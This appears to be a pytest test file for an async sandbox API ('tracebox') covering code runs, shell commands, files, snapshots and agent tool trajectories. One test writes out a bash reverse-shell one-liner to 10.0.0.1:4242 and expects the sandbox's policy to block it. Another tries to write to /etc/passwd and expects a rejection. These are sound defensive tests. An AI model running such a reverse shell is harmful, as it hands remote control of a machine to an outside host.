"""``AsyncSandbox``: every method of ``Sandbox``, with ``await``."""

from __future__ import annotations

import asyncio
import uuid
from pathlib import Path

import pytest

import tracebox


async def gone(sandbox_id: str) -> bool:
    async with tracebox.AsyncClient() as client:
        try:
            await tracebox.AsyncSandbox.connect(sandbox_id, client=client)
        except tracebox.NotFound:
            return True
        return False


async def test_async_with_kills_the_sandbox_also_when_the_body_raises():
    async with await tracebox.AsyncSandbox.create() as sbx:
        assert sbx.sandbox_id.startswith("sbx_") and await sbx.is_running()
    assert await gone(sbx.sandbox_id)
    with pytest.raises(tracebox.NotFound):
        await sbx.get_info()

    with pytest.raises(ValueError):
        async with await tracebox.AsyncSandbox.create() as failing:
            raise ValueError("the agent failed")
    assert await gone(failing.sandbox_id)


async def test_async_code_commands_and_streaming(aclient):
    async with await tracebox.AsyncSandbox.create(client=aclient) as sbx:
        await sbx.run_code("total = 40")
        result = await sbx.run_code("total + 2")
        assert (result.status, result.result) == ("success", "42")
        raised = await sbx.run_code("int('x')")
        assert raised.error is not None and raised.error.name == "ValueError"

        seen: list[str] = []

        async def collect(data: str) -> None:
            seen.append(data)

        streamed = await sbx.run_code("for i in range(3): print(i)", on_stdout=collect)
        assert "".join(seen) == streamed.stdout == "0\n1\n2\n"
        await sbx.restart_code()
        assert (await sbx.run_code("total")).error is not None

        await sbx.files.write("sub/x", "")
        ran = await sbx.commands.run("echo $WHO in $(pwd); cat", cwd="sub", env={"WHO": "me"}, stdin="in")
        assert ran.stdout == "me in /workspace/sub\nin"
        lines: list[str] = []
        errors: list[str] = []
        streamed_cmd = await sbx.commands.run(
            "for i in 1 2; do echo $i; sleep 0.05; done; echo bad >&2; exit 2",
            on_stdout=lines.append,
            on_stderr=errors.append,
            timeout=10,
        )
        assert (streamed_cmd.exit_code, "".join(lines), "".join(errors)) == (2, "1\n2\n", "bad\n")
        with pytest.raises(tracebox.PolicyBlocked):
            await sbx.commands.run("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")


async def test_async_files(aclient, tmp_path: Path):
    async with await tracebox.AsyncSandbox.create(client=aclient) as sbx:
        entry = await sbx.files.write("a/b.txt", "text")
        assert entry.path == "a/b.txt" and entry.size == 4
        assert await sbx.files.read("a/b.txt") == "text"
        assert await sbx.files.read("a/b.txt", format="bytes") == b"text"
        assert [e.name for e in await sbx.files.list("a")] == ["b.txt"]
        assert await sbx.files.exists("a/b.txt") and not await sbx.files.exists("a/c.txt")
        local = tmp_path / "up.txt"
        local.write_bytes(b"uploaded")
        assert [e.path for e in await sbx.files.upload(local, path="in")] == ["in/up.txt"]
        assert await sbx.files.download("in/up.txt", tmp_path / "down.txt") == b"uploaded"
        assert (tmp_path / "down.txt").read_bytes() == b"uploaded"
        await sbx.files.remove("a")
        assert not await sbx.files.exists("a/b.txt")
        with pytest.raises(tracebox.InvalidRequest):
            await sbx.files.write("/etc/passwd", "no")


async def test_async_life_list_connect_snapshots(aclient):
    tag = uuid.uuid4().hex[:8]
    sbx = await tracebox.AsyncSandbox.create("python", timeout=120, metadata={"tag": tag}, client=aclient)
    try:
        listed = await tracebox.AsyncSandbox.list(metadata={"tag": tag}, client=aclient)
        assert [s.sandbox_id for s in listed] == [sbx.sandbox_id]
        assert (await sbx.set_timeout(300)).timeout == 300
        info = await sbx.get_info()
        assert info.metadata == {"tag": tag} and info.status == "running"

        await sbx.files.write("keep.txt", "1")
        snap = await sbx.snapshot("one")
        await sbx.files.write("keep.txt", "2")
        assert snap.snapshot_id in [s.snapshot_id for s in await sbx.snapshots()]
        await sbx.reset(snap.snapshot_id)
        assert await sbx.files.read("keep.txt") == "1"

        assert (await sbx.pause()).status == "paused"
        with pytest.raises(tracebox.Conflict):
            await sbx.run_code("1")
        paused = await tracebox.AsyncSandbox.connect(sbx.sandbox_id, resume=False, client=aclient)
        assert paused.info.status == "paused"
        connected = await tracebox.AsyncSandbox.connect(sbx.sandbox_id, client=aclient)  # resumes it
        assert connected.info.status == "running" and await connected.files.read("keep.txt") == "1"
    finally:
        assert await sbx.kill() is True
    assert await sbx.kill() is False
    assert await tracebox.AsyncSandbox.list(metadata={"tag": tag}, client=aclient) == []


async def test_async_resume_after_pause(aclient):
    async with await tracebox.AsyncSandbox.create(client=aclient) as sbx:
        await sbx.pause()
        resumed = await sbx.resume()
        assert resumed.status == "running" and resumed.note
        with pytest.raises(tracebox.Conflict) as twice:
            await sbx.resume()
        assert twice.value.code == "sandbox_conflict"


async def test_async_tools_trajectory_and_replay(git_repo, server):
    repo, first = git_repo
    # A repository on the server's own disk is for admin keys (docs/access.md).
    made = tracebox.AsyncSandbox.create(repo={"url": str(repo), "commit": first}, api_key=server.admin_key)
    async with await made as sbx:
        assert (await sbx.tools.search("return", path=".")).output.count("\n") == 1
        assert "def add" in (await sbx.tools.file_read("calc.py")).output
        assert (await sbx.tools.file_write("notes.txt", "n\n")).success
        assert (await sbx.tools.shell("cat notes.txt")).output == "n\n"
        status = await sbx.tools.git("status", "--short")
        assert status.success and "notes.txt" in status.output
        assert (await sbx.tools.call("git", args=["rev-parse", "HEAD"])).output.strip() == first

        trajectory = await sbx.trajectory()
        assert [s.tool_name for s in trajectory.steps] == ["search", "file_read", "file_write", "shell", "git", "git"]
        swe = await sbx.trajectory(format="swe-agent")
        assert len(swe["trajectory"]) == 6 and "history" in swe
        replay = await sbx.replay(trajectory)
        assert replay.success and replay.divergence_step == -1


async def test_async_sandboxes_side_by_side(aclient):
    sandboxes = await asyncio.gather(*(tracebox.AsyncSandbox.create(client=aclient) for _ in range(2)))
    try:
        results = await asyncio.gather(*(s.run_code(f"{i} * 21") for i, s in enumerate(sandboxes, 1)))
        assert [r.result for r in results] == ["21", "42"]
    finally:
        await asyncio.gather(*(s.close() for s in sandboxes))
    assert all([await gone(s.sandbox_id) for s in sandboxes])
